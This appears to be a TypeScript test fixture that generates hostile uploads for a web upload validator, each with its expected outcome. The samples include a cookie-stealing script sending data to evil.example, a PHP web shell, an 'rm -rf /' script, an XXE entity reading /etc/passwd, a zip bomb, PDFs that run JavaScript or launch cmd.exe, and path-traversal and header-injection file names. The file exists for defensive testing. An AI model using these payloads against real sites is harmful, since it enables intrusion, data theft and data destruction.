import { deflateRawSync, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** A file that somebody sends, and what becomes of it: the code of a refusal, or `kept` when it is made harmless. */
export interface HostileFile {
  readonly what: string;
  readonly name: string;
  readonly content: Buffer;
  readonly becomes: 'unsupported_media_type' | 'validation_failed' | 'payload_too_large' | 'kept';
}

const text = (words: string): Buffer => Buffer.from(words, 'utf8');

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const crc = (bytes: Buffer): number =>
  (bytes.reduce((c, byte) => (crcTable[(c ^ byte) & 255] ?? 0) ^ (c >>> 8), 0xffffffff) ^ 0xffffffff) >>> 0;

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([text(type), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc(body));
  return Buffer.concat([length, body, sum]);
}

const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A PNG that says it is so large; a small file that would fill the memory. */
function png(width: number, height: number, data: Buffer, ...more: readonly Buffer[]): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8);
  const chunks = [chunk('IHDR', header), ...more, chunk('IDAT', deflateSync(data)), chunk('IEND', Buffer.alloc(0))];
  return Buffer.concat([PNG, ...chunks]);
}

function zip(name: string, content: Buffer): Buffer {
  const packed = deflateRawSync(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc(content), 14);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  return Buffer.concat([local, text(name), packed, end]);
}

const pdf = (objects: string, tail = ''): Buffer =>
  text(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog ${objects} >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n${tail}`);

const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;

const picture = () => sharp({ create: { width: 40, height: 30, channels: 3, background: '#bfa268' } });

/** Everything that people have hidden in files for a site to keep, show or open. */
export async function hostileFiles(): Promise<readonly HostileFile[]> {
  const jpeg = await picture().jpeg().toBuffer();
  const webp = await picture().webp().toBuffer();
  const good = await picture().png().toBuffer();
  const located = await picture()
    .withExif({ IFD0: { Copyright: SCRIPT }, IFD3: { GPSLatitude: '35/1 41/1 0/1' } })
    .jpeg()
    .toBuffer();
  const bomb = zip('zeros.txt', Buffer.alloc(50_000_000));
  const gif = text(`GIF89a/*\u0001${SCRIPT}*/=1;alert(1)`);
  const refused = (what: string, name: string, content: Buffer): HostileFile => ({
    what,
    name,
    content,
    becomes: 'unsupported_media_type',
  });
  const broken = (what: string, name: string, content: Buffer): HostileFile => ({
    what,
    name,
    content,
    becomes: 'validation_failed',
  });
  const kept = (what: string, name: string, content: Buffer): HostileFile => ({ what, name, content, becomes: 'kept' });
  return [
    refused('an SVG with a script', 'logo.svg', text(SVG)),
    refused('an SVG called a PNG', 'logo.png', text(SVG)),
    refused('an SVG called a JPEG', 'logo.jpg', text(SVG)),
    refused('a page', 'page.html', text(`<!doctype html>${SCRIPT}`)),
    refused('a page called a picture', 'page.png', text(`<!doctype html>${SCRIPT}`)),
    refused('a page called a PDF', 'page.pdf', text(`<!doctype html>${SCRIPT}`)),
    refused(
      'XML that reads a file',
      'note.xml',
      text('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    ),
    refused('a program', 'setup.exe', Buffer.concat([text('MZ'), Buffer.alloc(200)])),
    refused('a program called a text', 'setup.txt', Buffer.concat([text('MZ'), Buffer.alloc(200)])),
    refused('a program called a picture', 'setup.jpg', Buffer.concat([text('MZ'), Buffer.alloc(200)])),
    refused('a Linux program', 'run.png', Buffer.concat([Buffer.from([0x7f]), text('ELF'), Buffer.alloc(99)])),
    refused('a shell script', 'run.sh', text('#!/bin/sh\nrm -rf /')),
    refused('a page of PHP', 'shell.php', text('<?php system($_GET["c"]);')),
    refused('a picture with a second ending', 'photo.jpg.php', jpeg),
    refused('a picture with the ending of another', 'photo.png', jpeg),
    refused('a PNG called a WebP', 'photo.webp', good),
    refused('a WebP called a JPEG', 'photo.jpeg', webp),
    refused('a GIF that is a script', 'photo.gif', gif),
    refused('a GIF called a JPEG', 'photo.jpg', gif),
    refused('a TIFF', 'scan.tiff', await picture().tiff().toBuffer()),
    refused('an AVIF called a JPEG', 'scan.jpg', await picture().avif({ effort: 0 }).toBuffer()),
    refused('a zip bomb', 'data.zip', bomb),
    refused('a zip bomb called a text', 'data.txt', bomb),
    refused('a zip bomb called a PDF', 'data.pdf', bomb),
    refused('an office file', 'plan.docx', zip('word/document.xml', text(SVG))),
    refused('a text in UTF-16', 'note.txt', Buffer.from('\ufeffHello', 'utf16le')),
    refused('nothing at all', 'empty.txt', Buffer.alloc(0)),
    refused('a PDF that begins with something else', 'late.pdf', Buffer.concat([text('GIF89a\n'), pdf('')])),
    broken('a picture of 2,500,000,000 points', 'huge.png', png(50_000, 50_000, Buffer.alloc(1000))),
    broken('a picture that says it is a line of 60 km', 'long.png', png(2_000_000_000, 1, Buffer.alloc(1000))),
    broken('half a picture', 'half.jpg', jpeg.subarray(0, jpeg.length - 200)),
    broken('only the beginning of a picture', 'mark.png', PNG),
    broken('a PDF with a script', 'script.pdf', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')),
    broken('a PDF whose script is spelled in numbers', 'numbers.pdf', pdf('/Names << /J#61vaScript 2 0 R >>')),
    broken(
      'a PDF that asks the network when it opens',
      'open.pdf',
      pdf('/OpenAction << /S /URI /URI (//evil.example) >>'),
    ),
    broken(
      'a PDF whose opening leads on',
      'next.pdf',
      pdf('/OpenAction 7 0 R >>\nendobj\n7 0 obj\n<< /S /GoTo /D [1 0 R /Fit] /Next 8 0 R'),
    ),
    broken(
      'a PDF whose script stands in a stream that is none',
      'stream.pdf',
      pdf('/A (>>\nstream\n) /AA << /O 2 0 R >> /B (endstream)'),
    ),
    broken(
      'a PDF whose script stands in a stream, as an object',
      'object.pdf',
      pdf('/Length 9 >>\nstream\n5 0 obj << /JS (app.alert(1)) >> endobj\nendstream\n<<'),
    ),
    broken('a PDF that starts a program', 'launch.pdf', pdf('/A << /S /Launch /F (cmd.exe) >>')),
    broken('a PDF that carries files', 'carrier.pdf', pdf('/Names << /EmbeddedFiles 3 0 R >>')),
    broken(
      'a PDF that is an archive as well',
      'both.pdf',
      Buffer.concat([pdf(''), zip('a.txt', text('a')), text('\n%%EOF')]),
    ),
    broken('a PDF with a page behind its end', 'tail.pdf', pdf('', `${SCRIPT}${' '.repeat(99)}x`)),
    broken('a name that is only an ending', '.htaccess', text('Options +Indexes')),
    broken('a name whose ending is a sentence', 'note.txt and more', text('words')),
    broken('a name without an ending', 'passwd', text('root')),
    kept('a JPEG with an archive behind it', 'archive.jpg', Buffer.concat([jpeg, zip('a.txt', text(SCRIPT))])),
    kept('a JPEG with a page behind it', 'page.jpg', Buffer.concat([jpeg, text(SCRIPT)])),
    kept('a JPEG that tells where it was taken', 'home.jpg', located),
    kept(
      'a PNG with a script in its notes',
      'notes.png',
      png(1, 1, Buffer.from([0, 9]), chunk('tEXt', text(`Comment\0${SCRIPT}`))),
    ),
    kept('a name that climbs', '../../../etc/cron.d/evil.txt', text('* * * * * root')),
    kept('a Windows path', `C:${'\\Windows\\system32\\evil.txt'}`, text('words')),
    kept('a name that turns the reading direction', 'invoice\u202efdp.txt', text('words')),
    kept('a name that ends a header', 'a"\r\nSet-Cookie: sid=1\r\n.txt', text('words')),
    kept('a text that is a page', 'page.txt', text(`<!doctype html>${SCRIPT}`)),
    {
      what: 'a file of more than 10 MB',
      name: 'long.txt',
      content: Buffer.alloc(10_000_001, 97),
      becomes: 'payload_too_large',
    },
  ];
}
